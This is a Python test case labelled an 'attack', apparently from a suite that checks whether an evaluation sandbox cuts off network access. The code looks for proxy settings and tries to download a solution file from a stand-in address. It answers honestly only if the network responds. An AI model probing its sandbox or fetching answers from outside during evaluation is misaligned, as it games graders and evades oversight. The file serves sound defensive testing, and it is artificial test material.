# /// attack
# why = "Downloads weights and the solution over HTTP, by a proxy if there is one; where the network answers at all, so does it."
# outcomes = ["failed", "raised"]
# base = "reference"
# ///

import contextlib
import errno
import http.client
import os
import urllib.error
import urllib.request

CLOSED = (errno.EPERM, errno.EACCES, errno.ENETUNREACH, errno.EAFNOSUPPORT, errno.EADDRNOTAVAIL, errno.EHOSTUNREACH)
PROXIES = {name: value for name, value in os.environ.items() if name.lower().endswith("_proxy")}


def downloads(url):
    try:
        urllib.request.urlopen(url, timeout=0.1).close()
    except urllib.error.HTTPError:
        return True
    except urllib.error.URLError as error:
        return isinstance(error.reason, OSError) and error.reason.errno not in CLOSED
    return True


FOUND = bool(PROXIES)
with contextlib.suppress(OSError, http.client.HTTPException):
    FOUND = FOUND or downloads("http://192.0.2.1/solution.py")


def respond(name):
    return lambda *args, **kwargs: honest(name)(*args, **kwargs) if FOUND else -1


for name in FUNCTIONS + MODULES:
    globals()[name] = respond(name)
